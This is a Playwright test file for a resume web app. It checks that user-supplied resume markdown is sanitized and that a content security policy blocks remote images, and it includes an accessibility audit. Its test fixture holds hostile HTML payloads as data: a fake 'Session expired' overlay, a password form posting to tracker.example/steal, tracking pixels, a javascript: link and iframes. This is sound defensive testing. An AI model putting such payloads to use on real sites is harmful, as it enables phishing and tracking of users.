import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Locator, type Page } from '@playwright/test';
import type { TResume } from '#shared/schemas/resumes/resume.ts';
import { createAccount, loginViaApi } from './fixtures.ts';

const PIXEL_PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

// What an outside probe put in a resume: no script, but enough to restyle, overlay and track the page.
const HOSTILE_MARKDOWN = [
  '# Jane Roe',
  'Staff engineer, **Rust** and *Go*. See [my site](https://jane.example).',
  '- Distributed systems\n- Developer tooling',
  '| Skill | Years |\n|:------|------:|\n| Rust | 6 |',
  '```ts\nconst answer = 42;\n```',
  '<style>body{background:red !important}</style>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
  '<p class="fixed inset-0 z-50 bg-red-500" id="root">Overlay by class</p>',
  '<form action="https://tracker.example/steal"><input type="password" name="password"><textarea></textarea><select><option>x</option></select><button>Log in</button></form>',
  '<img src="https://tracker.example/pixel.gif" alt="pixel">',
  '<img src="//tracker.example/relative-scheme.gif" alt="pixel">',
  `<img src="${PIXEL_PNG}" srcset="https://tracker.example/srcset.gif 1x, https://tracker.example/srcset2.gif 2x" alt="srcset">`,
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="svg data">',
  `![inline pixel](${PIXEL_PNG})`,
  '[click me](javascript:alert(1))',
  '<iframe src="https://tracker.example/frame"></iframe>',
  '<svg width="400" height="400"><rect width="400" height="400" fill="red"/></svg>',
  '<object data="https://tracker.example/object"></object><embed src="https://tracker.example/embed">',
  '<math><mi>x</mi></math>',
].join('\n\n');

/** A developer signed in on `page` with one resume holding `markdown`. */
async function createResumeWith(page: Page, markdown: string): Promise<TResume> {
  const developer = await createAccount(page.request, 'developer');
  await loginViaApi(page, developer, '/applicant');
  const me = (await (await page.request.get('/api/auth/me')).json()) as { id: number };
  const created = await page.request.post(`/api/applicant/${me.id}/resume/create`, {
    data: { resumeData: { personalInfo: { fullName: 'Jane Roe', email: 'jane@example.com', phone: '555 0100', location: 'Lisbon' } } },
  });
  expect(created.status(), await created.text()).toBe(201);
  const resume = (await created.json()) as TResume;
  const saved = await page.request.patch(`/api/resume/${resume.id}`, { data: { fileContent: markdown } });
  expect(saved.status(), await saved.text()).toBe(200);
  return resume;
}

/** Every request the page makes to the probe's host (answered locally, so nothing leaves the machine). */
async function recordTrackerRequests(page: Page): Promise<string[]> {
  const requests: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'tracker.example') requests.push(request.url());
  });
  await page.route(/tracker\.example/, (route) => route.abort());
  return requests;
}

const bodyBackground = (page: Page) => page.evaluate(() => getComputedStyle(document.body).backgroundColor);

async function expectOnlySafeMarkup(markdown: Locator): Promise<void> {
  await expect(markdown.getByRole('heading', { level: 1, name: 'Jane Roe' })).toBeVisible();
  await expect(markdown.locator('strong')).toHaveText('Rust');
  await expect(markdown.getByRole('listitem')).toHaveText(['Distributed systems', 'Developer tooling']);
  await expect(markdown.getByRole('cell', { name: 'Rust' })).toBeVisible();
  await expect(markdown.getByRole('cell', { name: '6' })).toHaveAttribute('align', 'right');
  await expect(markdown.locator('pre code')).toHaveText('const answer = 42;');
  const link = markdown.getByRole('link', { name: 'my site' });
  await expect(link).toHaveAttribute('href', 'https://jane.example');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');

  await expect(markdown.locator('style, [style], [class], [id]')).toHaveCount(0);
  await expect(markdown.locator('form, input, button, textarea, select, iframe, object, embed, svg, math, div')).toHaveCount(0);
  await expect(markdown.locator('[srcset], a[href^="javascript" i]')).toHaveCount(0);
  // Only the inline PNGs are left (one without its srcset): remote, protocol-relative and SVG images are gone.
  await expect(markdown.locator('img')).toHaveCount(2);
  for (const image of await markdown.locator('img').all()) await expect(image).toHaveAttribute('src', PIXEL_PNG);
  // Nothing in the content can be lifted out of the text flow to cover the page.
  const positioned = await markdown.evaluate((root) =>
    [...root.querySelectorAll('*')]
      .filter((element) => getComputedStyle(element).position !== 'static')
      .map((element) => element.outerHTML),
  );
  expect(positioned).toEqual([]);
}

test('resume markdown cannot restyle, overlay or track the page, in view mode or in the preview', async ({ page }) => {
  const resume = await createResumeWith(page, HOSTILE_MARKDOWN);
  const background = await bodyBackground(page);
  const trackerRequests = await recordTrackerRequests(page);

  const response = await page.goto(`/resume/${resume.id}`);
  // Second layer: should markup slip through, the browser still loads no image from another site
  // (Unsplash's image host alone is allowed, for blog covers).
  expect(response?.headers()['content-security-policy']).toContain("img-src 'self' data: blob: https://images.unsplash.com;");
  const view = page.locator('[data-slot="markdown-content"]');
  await expectOnlySafeMarkup(view);
  expect(await bodyBackground(page)).toBe(background);
  await expect(page.getByRole('button', { name: 'Edit Resume' })).toBeVisible();

  await page.getByRole('button', { name: 'Edit Resume' }).click();
  await expectOnlySafeMarkup(page.getByTestId('resume-preview').locator('[data-slot="markdown-content"]'));
  expect(await bodyBackground(page)).toBe(background);

  expect(trackerRequests).toEqual([]);
});

test('the resume page with hostile markdown has no serious accessibility violations', async ({ page }) => {
  const resume = await createResumeWith(page, HOSTILE_MARKDOWN);
  await page.goto(`/resume/${resume.id}`);
  await expect(page.locator('[data-slot="markdown-content"]').getByRole('heading', { name: 'Jane Roe' })).toBeVisible();
  const results = await new AxeBuilder({ page }).analyze();
  const serious = results.violations.filter((violation) => violation.impact === 'serious' || violation.impact === 'critical');
  expect(serious.map((violation) => `${violation.id}: ${violation.nodes.map((node) => node.target).join(', ')}`)).toEqual([]);
});
